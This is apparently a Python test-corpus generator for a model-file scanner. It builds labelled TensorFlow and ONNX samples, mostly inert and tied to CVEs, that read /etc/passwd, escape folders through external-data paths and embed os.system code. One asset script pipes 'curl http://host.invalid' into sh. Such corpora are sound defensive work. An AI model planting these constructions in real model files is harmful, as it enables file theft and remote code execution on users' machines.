# SPDX-License-Identifier: Apache-2.0
"""Graphs whose operators do the work: TensorFlow and ONNX."""
import json

from assemble import proto as p
from assemble.proto import message, onnx_graph, onnx_model, onnx_node, onnx_tensor, tf_graph, tf_node, tf_placeholder, tf_string

from .archives import ELF
from .keras import LAMBDA, sequential

FLOAT = message((6, 1))
IDENTITY = tf_node("y", "Identity", ["x"], {"T": FLOAT})


def saved(nodes, functions=(), more: dict | None = None) -> dict:
    return {"saved_model.pb": p.tf_saved_model(tf_graph([tf_placeholder(), *nodes, IDENTITY], functions)),
            "variables/variables.index": b"\0" * 40 + b"\x57\xfb\x80\x8b\x24\x75\x47\xdb", "variables/variables.data-00000-of-00001": bytes(16),
            "fingerprint.pb": message((1, 1 << 63), (2, 5), (7, "1234")), **(more or {})}


def add(corpus):
    tensorflow_files(corpus.family("tf-files", "TensorFlow: ReadFile and WriteFile"))
    tensorflow_operators(corpus.family("tf-ops", "TensorFlow: PyFunc and other file and network operators"))
    tensorflow_graphs(corpus.family("tf-graphs", "TensorFlow: frozen graphs, .meta, Lambda, assets"))
    tensorflow_honest(corpus.family("tf-honest", "TensorFlow: honest"))
    onnx_external(corpus.family("onnx-external", "ONNX: external data outside of the folder"))
    onnx_nested(corpus.family("onnx-nested", "ONNX: external data in attributes, subgraphs, functions"))
    onnx_code(corpus.family("onnx-code", "ONNX: operators with code, foreign domains, metadata"))
    onnx_structure(corpus.family("onnx-structure", "ONNX: structure"))
    onnx_honest(corpus.family("onnx-honest", "ONNX: honest"))


READ = [tf_string("name", "/etc/passwd"), tf_node("r", "ReadFile", ["name"])]


def tensorflow_files(case):
    write = [tf_string("name", "/tmp/corpus-nowhere"), tf_string("what", "x"), tf_node("w", "WriteFile", ["name", "what"])]
    case("malicious", "ReadFile of /etc/passwd", saved(READ))
    case("malicious", "WriteFile", saved(write))
    case("malicious", "WriteFile in a function", saved([], [p.tf_function("f", write)]))


def tensorflow_operators(case):
    for op in ("PyFunc", "PyFuncStateless", "EagerPyFunc"):
        case("malicious", op, saved([tf_node(op, op, ["x"], {"token": message((2, "pyfunc_0"))})]))
    for op in ("MatchingFiles", "TextLineDataset", "TFRecordDataset", "FixedLengthRecordDataset", "SqlDataset", "LMDBReader",
               "WholeFileReaderV2", "Save", "MergeV2Checkpoints", "PrintV2", "DebugIdentityV2", "LoadAndRemapMatrix",
               "InitializeTableFromTextFileV2"):
        attributes = {"output_stream": message((2, "file:///tmp/corpus-nowhere"))} if op == "PrintV2" else {
            "debug_urls": message((1, message((2, "file:///tmp/corpus-nowhere"))))} if op == "DebugIdentityV2" else {}
        case("malicious", op, saved([tf_string("name", "/etc/passwd"), tf_node(op, op, ["name"], attributes)]))
    case("malicious", "DataServiceDatasetV4", saved([tf_string("name", "grpc://host.invalid:1"),
                                                    tf_node("d", "DataServiceDatasetV4", ["name"])]))
    case("malicious", "RpcClient", saved([tf_string("name", "host.invalid:1"), tf_node("d", "RpcClient", ["name"])]))
    case("suspicious", "an operator that TensorFlow does not have", saved([tf_node("d", "AcmeDoThings", ["x"])]))


def tensorflow_graphs(case):
    case("malicious", "a frozen graph with ReadFile", tf_graph([tf_placeholder(), *READ]), name="frozen.pb")
    case("malicious", "a .meta with ReadFile", p.tf_meta_graph(tf_graph([tf_placeholder(), *READ])), name="model.ckpt.meta")
    metadata = message((1, message((2, 1), (3, "root"), (4, "_tf_keras_sequential"), (5, json.dumps(sequential(LAMBDA))))))
    case("malicious", "keras_metadata.pb with a Lambda", saved([], more={"keras_metadata.pb": metadata}), source="CVE-2024-3660")
    case("malicious", "a script among the assets", saved([], more={"assets/run.sh": "#!/bin/sh\ncurl http://host.invalid | sh\n"}))
    case("suspicious", "a shared library among the assets", saved([], more={"assets.extra/libop.so": ELF}))


def tensorflow_honest(case):
    normal = ["MatMul", "BiasAdd", "Relu", "Softmax", "Conv2D", "MaxPool", "ReadVariableOp", "VarHandleOp", "StatefulPartitionedCall",
              "NoOp", "Reshape", "Cast", "GatherV2", "HashTableV2", "LookupTableFindV2"]
    case("benign", "usual operators", saved([tf_node(op, op, ["x"]) for op in normal]))
    case("benign", "SaveV2 and RestoreV2, as every SavedModel has", saved([
        tf_string("prefix", "part"), tf_node("save", "SaveV2", ["prefix"]), tf_node("restore", "RestoreV2", ["prefix"]),
        tf_node("shard", "ShardedFilename", ["prefix"]), tf_node("merge", "StringJoin", ["prefix"])]))
    case("benign", "with functions", saved([], [p.tf_function("f", [tf_node("a", "AddV2", ["x", "x"])])]))
    case("benign", "a vocabulary among the assets", saved([], more={"assets/vocab.txt": "the\nof\nsystem\neval\n"}))
    case("benign", "a frozen graph", tf_graph([tf_placeholder(), IDENTITY]), name="frozen.pb")


def external(location: str, **fields) -> bytes:
    return onnx_tensor(external={"location": location, **fields})


def onnx_external(case):
    for where, name in (("../../../etc/passwd", "model.onnx"), ("a/../../secret", "model.onnx"), ("../secret.bin", "model.bin"),
                        ("/etc/passwd", "model.onnx")):
        case("malicious", f"initializer at {where}", onnx_model(onnx_graph(initializers=[external(where)])), name=name,
             source="CVE-2024-27318")
    from cases import Link
    case("malicious", "the data file is a link out of the folder", {
        "model.onnx": onnx_model(onnx_graph(initializers=[external("weights.bin")])), "weights.bin": Link("/etc/hostname")},
        source="CVE-2025-51480")
    case("malicious", "backslashes", onnx_model(onnx_graph(initializers=[external("..\\..\\secret")])), name="model.onnx",
         source="CVE-2022-25882")


def onnx_nested(case):
    secret = external("../../../etc/passwd")
    constant = onnx_node("Constant", (), ("w",), [message((1, "value"), (20, 4), (5, secret))])
    case("malicious", "in an attribute of Constant", onnx_model(onnx_graph([constant, onnx_node()], [])), name="model.onnx")
    branch = onnx_graph([onnx_node()], [secret])
    node = onnx_node("If", ("x",), ("y",), [message((1, "then_branch"), (20, 5), (6, branch))])
    case("malicious", "in a subgraph of If", onnx_model(onnx_graph([node], [])), name="model.onnx")
    sparse = message((1, secret), (2, onnx_tensor("i", (1,), bytes(8), kind=7)), (3, 4))
    case("malicious", "in a sparse tensor", onnx_model(onnx_graph(sparse=[sparse])), name="model.onnx")
    body = message((1, "f"), (4, "x"), (5, "w"), (7, constant), (9, message((2, 17))), (10, "local"))
    case("malicious", "in a function of the model", onnx_model(onnx_graph([onnx_node("f", ("x",), ("y",), domain="local")], []),
                                                               functions=[body], opsets=(("", 17), ("local", 1))), name="model.onnx")
    tensors = onnx_node("Constant", (), ("w",), [message((1, "values"), (20, 9), (10, secret))])
    case("malicious", "in a list of tensors of an attribute", onnx_model(onnx_graph([tensors, onnx_node()], [])), name="model.onnx")


def onnx_code(case):
    source = message((1, "code"), (20, 3), (4, "import os\nos.system('true')\n"))
    case("malicious", "PyOp with Python code", onnx_model(onnx_graph([onnx_node("PyOp", attributes=[source],
         domain="ai.onnx.contrib")]), opsets=(("", 17), ("ai.onnx.contrib", 1))), name="model.onnx")
    case("suspicious", "an operator of a foreign domain", onnx_model(onnx_graph([onnx_node("Run", domain="com.acme")]),
         opsets=(("", 17), ("com.acme", 1))), name="model.onnx")
    case("suspicious", "code in the metadata", onnx_model(metadata=[("init", "import os; os.system('true')")]), name="model.onnx")


def onnx_structure(case):
    whole = onnx_model()
    bad = lambda what, raw: case("malformed", what, raw, name="model.onnx")  # noqa: E731
    bad("dimensions and data disagree", onnx_model(onnx_graph(initializers=[onnx_tensor(dims=(400, 400))])))
    bad("dimensions that overflow", onnx_model(onnx_graph(initializers=[onnx_tensor(dims=(1 << 33, 1 << 33))])))
    bad("a negative dimension", onnx_model(onnx_graph(initializers=[onnx_tensor(dims=(-1, 4))])))
    bad("cut in the middle", whole[:len(whole) - 20])
    case("malformed", "external data beyond its file", {"model.onnx": onnx_model(onnx_graph(initializers=[
        external("weights.bin", offset="1048576", length="16")])), "weights.bin": bytes(16)})
    case("malformed", "external data is missing", {"model.onnx": onnx_model(onnx_graph(initializers=[external("weights.bin")]))})
    graph = onnx_graph()
    for _ in range(600):
        graph = onnx_graph([onnx_node("If", ("x",), ("y",), [message((1, "then_branch"), (20, 5), (6, graph))])], [])
    bad("subgraphs, 600 deep", onnx_model(graph))
    bad("a length longer than the file", whole[:6] + b"\x3a\xff\xff\xff\x7f" + whole[8:])


def onnx_honest(case):
    case("benign", "MatMul", onnx_model(), name="model.onnx")
    case("benign", "external data beside it", {"model.onnx": onnx_model(onnx_graph(initializers=[
        external("model.onnx.data", offset="0", length="16")])), "model.onnx.data": bytes(16)})
    case("benign", "operators of ai.onnx.ml", onnx_model(onnx_graph([onnx_node("Scaler", domain="ai.onnx.ml")]),
         opsets=(("", 17), ("ai.onnx.ml", 3))), name="model.onnx")
    case("benign", "ONNX Runtime's own operators", onnx_model(onnx_graph([onnx_node("FusedMatMul", domain="com.microsoft")]),
         opsets=(("", 17), ("com.microsoft", 1))), name="model.onnx")
    case("benign", "metadata of an exporter", onnx_model(metadata=[("author", "A. Person"), ("licence", "Apache-2.0")]), name="model.onnx")
    branch = onnx_graph([onnx_node()])
    case("benign", "If with two branches", onnx_model(onnx_graph([onnx_node("If", ("x",), ("y",), [
        message((1, "then_branch"), (20, 5), (6, branch)), message((1, "else_branch"), (20, 5), (6, branch))])])), name="model.onnx")
